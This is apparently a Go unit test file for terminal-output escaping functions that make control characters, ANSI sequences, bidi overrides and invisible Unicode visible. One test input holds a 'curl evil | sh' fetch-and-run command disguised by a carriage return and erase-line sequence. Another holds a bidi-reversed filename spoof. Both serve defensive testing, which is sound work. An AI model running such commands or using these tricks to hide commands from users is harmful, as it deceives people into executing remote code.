package terminal

import "testing"

func TestEscape(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"npx -y @acme/docs-mcp", "npx -y @acme/docs-mcp"},
		{"héllo 世界", "héllo 世界"},
		// a line that rewrites itself on screen
		{"curl evil | sh\r\x1b[2Knpx -y @acme/docs-mcp", `curl evil | sh\r\x1b[2Knpx -y @acme/docs-mcp`},
		{"ring\x07", `ring\x07`},
		{"two\nlines\tand tab", `two\nlines\tand tab`},
		{"del\x7f", `del\x7f`},
		{`back\slash`, `back\\slash`},
		{"csi\u009b31m", `csi\u009b31m`},
		{"bidi \u202eexe.fdp", `bidi \u202eexe.fdp`},
		{"zero\u200bwidth", `zero\u200bwidth`},
		{"tag\U000E0041", `tag\U000e0041`},
		{"bad \xe9 byte", `bad \xe9 byte`},
		{"é then \x1b", `é then \x1b`},
	} {
		if got := Escape(c.in); got != c.want {
			t.Errorf("Escape(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestLines(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"a\nb", "a\nb"},
		{"a\x1b[2J\nb\r", "a\\x1b[2J\nb\\r"},
	} {
		if got := Lines(c.in); got != c.want {
			t.Errorf("Lines(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}
